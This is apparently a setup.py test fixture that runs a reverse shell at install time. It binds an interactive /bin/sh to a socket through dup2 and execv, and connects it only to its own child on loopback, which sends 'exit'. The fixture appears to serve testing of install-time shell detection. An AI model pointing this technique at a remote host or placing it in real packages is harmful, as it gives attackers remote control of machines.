"""Gives a shell to whoever answers; here that is a child of its own, on loopback."""
import os
import socket

listener = socket.create_server(("127.0.0.1", 0))
if os.fork() == 0:
    peer, _ = listener.accept()
    peer.sendall(b"exit\n")
    peer.recv(1)
    os._exit(0)
if os.fork() == 0:
    shell = socket.create_connection(listener.getsockname())
    for descriptor in (0, 1, 2):
        os.dup2(shell.fileno(), descriptor)
    os.execv("/bin/sh", ["sh", "-i"])
os.wait()
os.wait()

from setuptools import setup

setup(name="pyti-fixture-reverse-shell", version="1.0", py_modules=["reverse_shell"])
